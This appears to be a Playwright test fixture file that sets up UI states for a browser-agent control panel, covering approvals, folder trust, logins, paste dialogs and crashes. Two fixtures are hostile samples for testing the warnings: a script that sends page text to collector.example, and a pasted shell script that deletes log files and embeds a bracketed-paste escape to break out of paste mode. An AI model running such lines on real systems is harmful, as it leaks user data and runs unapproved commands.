import type { Page } from 'playwright-core';
import type { Approval, ApprovalWords, BrowserInfo } from '$ui/protocol/protocol';
import { backend, openPanel } from './fakes/face';
import { conversation, fill, toChat } from './chat-states';
import type { FakeBackend } from './fakes/backend';

/** The first screen of an agent. */
export const agentScreen = [
  '\x1b[?2004h\x1b[38;5;37m╭──────────────────────────────────────╮\x1b[0m\r\n',
  '\x1b[38;5;37m│\x1b[0m \x1b[1mClaude Code\x1b[0m  \x1b[90mbeside t1\x1b[0m               \x1b[38;5;37m│\x1b[0m\r\n',
  '\x1b[38;5;37m╰──────────────────────────────────────╯\x1b[0m\r\n\r\n',
  '\x1b[32m●\x1b[0m \x1b[1mpilotfish goto\x1b[0m example.com\r\n',
  '  \x1b[90m⎿\x1b[0m  Example Domain \x1b[90m· 214 ms\x1b[0m\r\n\r\n',
  '\x1b[32m●\x1b[0m The page has one heading and one link:\r\n',
  '  \x1b[36mhttps://www.iana.org/domains/example\x1b[0m\r\n\r\n',
  '\x1b[31mred\x1b[0m \x1b[32mgreen\x1b[0m \x1b[33myellow\x1b[0m \x1b[34mblue\x1b[0m \x1b[35mmagenta\x1b[0m \x1b[36mcyan\x1b[0m \x1b[37mwhite\x1b[0m\r\n',
  '\x1b[90mgrey\x1b[0m \x1b[91mred\x1b[0m \x1b[92mgreen\x1b[0m \x1b[93myellow\x1b[0m \x1b[94mblue\x1b[0m \x1b[95mmagenta\x1b[0m \x1b[96mcyan\x1b[0m \x1b[97mwhite\x1b[0m\r\n',
  '\x1b[41m \x1b[42m \x1b[43m \x1b[44m \x1b[45m \x1b[46m \x1b[47m \x1b[0m \x1b[30;42m PASS \x1b[0m \x1b[97;41m FAIL \x1b[0m\r\n\r\n',
  '\x1b[90m>\x1b[0m ',
].join('');

/** A state of the panel, and how to reach it. */
export interface State {
  readonly name: string;
  readonly prepare?: (made: FakeBackend) => void;
  readonly act?: (page: Page, made: FakeBackend) => Promise<void>;
  readonly unpaired?: boolean;
  /** Whether the app's page is open in the browser. */
  readonly welcome?: boolean;
}

const live = (page: Page): Promise<void> => page.getByText('Live', { exact: true }).waitFor();
const paste =
  '#!/bin/sh\nset -eu\n\tcd "$HOME"\nfor f in *.log; do\n  rm -- "$f"\ndone\necho \x1b[201~done\n';

const longCode = [
  "const rows = [...document.querySelectorAll('table tr')];",
  'for (const row of rows) {',
  "  if (row.textContent.includes('\u202etotal')) row.remove();",
  '}',
  ...Array.from({ length: 24 }, (_, at) => `console.log(${String(at)}, rows.length);`),
  `fetch('https://collector.example/?d=' + encodeURIComponent(document.body.innerText.slice(0, 4000)))`,
].join('\n');

/** The backend's notice after the browser was killed. */
export const crashed = {
  code: 'crashed',
  message: 'The browser crashed at 14:05 (SIGKILL) and was restarted. Your tabs are back.',
} as const;

/** A browser that its user started. */
const own: BrowserInfo = {
  name: 'Google Chrome',
  version: '157.0.8100.12',
  path: '',
  pid: 0,
  sandbox: true,
  attached: true,
  cannot: ['logins', 'signins', 'trace'],
};

/** The question whether an agent may use the settings of its folder. */
export function trust(): Approval {
  const folder = '/home/ada/src/a-project-of-somebody-else';
  return approval({
    command: 'trust',
    kind: 'sensitive',
    origin: '',
    url: '',
    site: '',
    options: [
      { id: 'always', name: 'Trust this folder', kind: 'always' },
      { id: 'deny', name: 'Deny', kind: 'deny' },
    ],
    words: {
      what: `use the settings for agents in “${folder}”`,
      where: '',
      effect:
        "They can run programs as you. You are asked again when they change. If you deny it, the agent starts in a folder of Pilotfish's own.",
      details: [
        { name: 'settings', value: `${folder}/.claude/settings.json\n${folder}/.mcp.json` },
      ],
    },
  });
}

/** A site that asks for a user name and a password. */
export function login(part: Partial<Approval> = {}): Approval {
  const asked = approval({ command: 'login', kind: 'sign_in' });
  delete asked.site;
  return {
    ...asked,
    origin: 'http://staging.shop.example:8080',
    url: 'http://staging.shop.example:8080/',
    login: { scheme: 'basic', realm: 'Staff only', user: 'ada', again: true, saves: true },
    ...part,
  };
}

/** The words of an approval for a script that does not fit into a sentence. */
export function script(value: string): Partial<ApprovalWords> {
  return { what: 'run JavaScript', details: [{ name: 'expression', value }] };
}

type Part = Partial<Omit<Approval, 'words'>> & { words?: Partial<ApprovalWords> };

/** An approval that waits for the user. What a part leaves out is that of a short script. */
export function approval({ words, ...part }: Part = {}): Approval {
  return {
    id: 'n1',
    session: 'default',
    actor: {
      kind: 'terminal',
      id: 'k1',
      name: 'claude in t1',
      agent: 'Claude Code',
      tab: 't1',
    },
    tab: 't1',
    url: 'https://example.com/orders?status=open&page=2',
    origin: 'https://example.com',
    command: 'eval',
    kind: 'eval',
    site: 'example.com',
    since: '2026-11-21T09:30:00Z',
    expires: '2026-11-21T09:35:00Z',
    ...part,
    words: {
      sentence: 'Claude Code in the terminal of t1 wants to run JavaScript on https://example.com',
      who: 'Claude Code in the terminal of t1',
      what: 'run the JavaScript “document.title”',
      where: 'https://example.com',
      may: 'run JavaScript',
      ...words,
    },
  };
}

/** Puts a text on the page's clipboard and pastes it into the terminal. */
export async function pasteInto(page: Page, text: string): Promise<void> {
  await page.evaluate((data) => {
    const transfer = new DataTransfer();
    transfer.setData('text/plain', data);
    document.activeElement?.dispatchEvent(
      new ClipboardEvent('paste', { clipboardData: transfer, bubbles: true, cancelable: true }),
    );
  }, text);
}

export const states: State[] = [
  { name: 'live', act: live },
  {
    name: 'confined',
    prepare(made) {
      made.add('t1', { confined: true });
    },
    act: (page) => page.getByRole('button', { name: 'Confined', exact: true }).click(),
  },
  {
    name: 'confined-without-desktop',
    prepare(made) {
      made.settings = {
        ...made.settings,
        confinement: {
          on: true,
          desktop: {
            code: 'not_confined',
            message:
              'agents run confined, but programs that listen on abstract sockets stay in reach, such as an X server or a message bus: this kernel cannot close them',
            hint: 'use Linux 6.12 or newer with Landlock on (lsm=landlock)',
          },
        },
      };
      made.add('t1', { confined: true });
    },
    act: (page) => page.getByRole('button', { name: 'Confined without the desktop' }).click(),
  },
  {
    name: 'session',
    async act(page, made) {
      await live(page);
      // The only session needs no name.
      if ((await page.locator('.chip').count()) > 0) throw new Error('the only session is named');
      made.sessionPart = {
        name: 'customer-acceptance-test',
        title: 'Customer acceptance test',
        alone: false,
        identity: { color: '#c5221f' },
      };
      made.push({ type: 'session', session: made.session() });
      await page.getByTitle('Session Customer acceptance test').waitFor();
    },
  },
  {
    name: 'needs-you',
    async act(page, made) {
      await live(page);
      made.first?.change({ status: 'needs_you', message: 'May I run npm test?' });
      await page.getByText('Needs you', { exact: true }).waitFor();
    },
  },
  {
    name: 'approval',
    async act(page, made) {
      await live(page);
      made.push({ type: 'session', session: { ...made.session(), approvals: [approval()] } });
      await page.getByRole('button', { name: 'Deny' }).waitFor();
    },
  },
  {
    name: 'login',
    async act(page, made) {
      await live(page);
      made.push({ type: 'session', session: { ...made.session(), approvals: [login()] } });
      await page.getByRole('button', { name: 'Log in' }).waitFor();
    },
  },
  {
    name: 'trust',
    async act(page, made) {
      await live(page);
      made.push({ type: 'session', session: { ...made.session(), approvals: [trust()] } });
      await page.getByRole('button', { name: 'Trust this folder' }).waitFor();
      await page.getByText('Details').click();
    },
  },
  {
    name: 'approvals',
    async act(page, made) {
      await live(page);
      made.push({
        type: 'session',
        session: {
          ...made.session(),
          approvals: [
            approval({
              id: 'n2',
              tab: 't2',
              origin: 'https://developer.mozilla.org',
              url: 'https://developer.mozilla.org/en-US/docs/Web/API/WebSocket',
              site: 'developer.mozilla.org',
              command: 'cookies',
              kind: 'cookies',
              words: {
                what: 'read cookies',
                where: 'https://developer.mozilla.org',
                may: 'read and change cookies and stored data',
              },
            }),
            approval({ words: script(longCode) }),
          ],
        },
      });
      await page.getByRole('button', { name: 'Deny' }).nth(1).waitFor();
    },
  },
  {
    name: 'several',
    async act(page, made) {
      await live(page);
      made
        .add('t1', { agent: 'shell', name: 'Shell', status: 'working' })
        .print('$ npm run dev\r\n');
      await page.getByRole('tab').nth(1).waitFor();
    },
  },
  {
    name: 'picker',
    async act(page) {
      await live(page);
      await page.getByRole('button', { name: 'Agent: Claude Code' }).click();
    },
  },
  {
    name: 'find',
    async act(page) {
      await live(page);
      await page.keyboard.press('Control+Shift+F');
      await page.keyboard.type('example');
      await page.getByText(/ of \d/).waitFor();
    },
  },
  {
    name: 'paste',
    prepare(made) {
      made.greeting = '$ ';
    },
    async act(page) {
      await live(page);
      await pasteInto(page, paste);
      await page.getByRole('dialog').waitFor();
    },
  },
  {
    name: 'ended',
    async act(page, made) {
      await live(page);
      made.first?.exit(1);
      await page.getByText('Start again').waitFor();
    },
  },
  {
    name: 'reconnecting',
    async act(page, made) {
      await live(page);
      await made.stop();
      await page.getByText('Try now').waitFor();
    },
  },
  { name: 'unpaired', unpaired: true, act: (page) => page.getByText('Waiting for').waitFor() },
  {
    name: 'pair-by-code',
    unpaired: true,
    welcome: true,
    prepare(made) {
      made.pairs = true;
    },
    act: (page) => page.getByText('Enter this code').waitFor(),
  },
  {
    name: 'paired-by-code-reconnecting',
    async act(page, made) {
      await page.evaluate((pairing) => {
        globalThis.fakeChrome.pair(pairing);
      }, made.pairingByHand);
      await live(page);
      await made.stop();
      await page.getByText('Pair again').waitFor();
    },
  },
  {
    name: 'empty-tab',
    async act(page) {
      await live(page);
      await page.evaluate(() => {
        globalThis.fakeChrome.activate(12);
      });
      await page.getByText('beside this tab', { exact: false }).first().waitFor();
    },
  },
  {
    name: 'missing',
    prepare(made) {
      made.agents = {
        ...made.agents,
        default: 'codex',
      };
    },
    act: (page) => page.getByRole('button', { name: 'Check again' }).waitFor(),
  },
  {
    name: 'missing-command',
    prepare(made) {
      const missing = { state: 'missing', status: 'missing' } as const;
      made.add('t1', { agent: 'custom', name: 'my-agent', ...missing });
    },
    act: (page) => page.getByRole('heading', { name: 'my-agent is not installed' }).waitFor(),
  },
  {
    name: 'start-refused',
    prepare(made) {
      made.refuseStart = {
        code: 'not_writable',
        message: 'The working folder /srv/projects cannot be written.',
        hint: 'Choose another one in Settings.',
      };
    },
    act: (page) => page.getByRole('alert').waitFor(),
  },
  {
    name: 'command',
    async act(page) {
      await live(page);
      await page.getByRole('button', { name: 'Agent: Claude Code' }).click();
      await page.getByRole('menuitem', { name: 'Command line…' }).click();
      await page.getByRole('dialog').waitFor();
    },
  },
  {
    name: 'install',
    async act(page) {
      await live(page);
      await page.getByRole('button', { name: 'Agent: Claude Code' }).click();
      await page.getByRole('menuitem', { name: /Codex/ }).click();
      await page.getByRole('dialog').waitFor();
    },
  },
  {
    name: 'install-again',
    async act(page) {
      await live(page);
      await page.getByRole('button', { name: 'Agent: Claude Code' }).click();
      await page.getByRole('menuitem', { name: /Codex/ }).click();
      await page.getByRole('button', { name: 'Check again' }).click();
      await page.getByText('Still not found: not on the PATH.').waitFor();
    },
  },
  {
    name: 'crashed',
    async act(page, made) {
      await live(page);
      made.push({ type: 'session', session: { ...made.session(), warnings: [crashed] } });
      await page.getByText('The browser crashed').waitFor();
    },
  },
  {
    name: 'own-browser-private',
    prepare(made) {
      made.tabs = made.tabs.map((tab) => ({ ...tab, private: true }));
      made.sessionPart = { browser: own };
    },
    async act(page) {
      await page.getByRole('button', { name: 'Give it to agents' }).waitFor();
      await page.getByRole('button', { name: 'Sign-ins' }).waitFor({ state: 'detached' });
    },
  },
  {
    name: 'own-browser-given',
    prepare(made) {
      made.tabs = made.tabs.map((tab) => ({ ...tab, given: true }));
      made.sessionPart = { browser: own };
    },
    act: (page) => page.getByRole('button', { name: 'Take back' }).waitFor(),
  },
  {
    name: 'own-browser-gone',
    async act(page, made) {
      await live(page);
      made.tabs = [];
      made.sessionPart = { state: 'background' };
      made.push({ type: 'session', session: made.session() });
      await page.getByText('not connected to this browser').waitFor();
    },
  },
  {
    name: 'other-faces-need-you',
    async act(page, made) {
      fill(made);
      await toChat(page);
      made.first?.change({ status: 'needs_you' });
      made.chat.change(conversation, { state: 'needs_you' });
      await page.getByRole('tab', { name: /^Task/ }).click();
      await page.getByRole('tab', { name: /^Chat.*needs you/ }).waitFor();
      await page.getByRole('tab', { name: /^Terminal.*needs you/i }).waitFor();
    },
  },
  {
    name: 'close-asks',
    async act(page, made) {
      await live(page);
      made.first?.change({ status: 'working' });
      await page.getByText('Working').waitFor();
      await page.getByRole('button', { name: 'Close terminal' }).click();
      await page.getByRole('dialog').waitFor();
    },
  },
  {
    name: 'link',
    async act(page) {
      await live(page);
      const line = await page.locator('.xterm-rows > div', { hasText: 'iana.org' }).boundingBox();
      await page.mouse.move((line?.x ?? 0) + 90, (line?.y ?? 0) + 6);
      await page.getByText('+click').waitFor();
    },
  },
];

/** Opens the panel in one state. */
export async function take(state: State, width = 320): Promise<Page> {
  const made = await backend();
  made.greeting = agentScreen;
  state.prepare?.(made);
  const page = await openPanel(made, {
    width,
    unpaired: state.unpaired ?? false,
    welcome: state.welcome ?? false,
  });
  await state.act?.(page, made);
  return page;
}
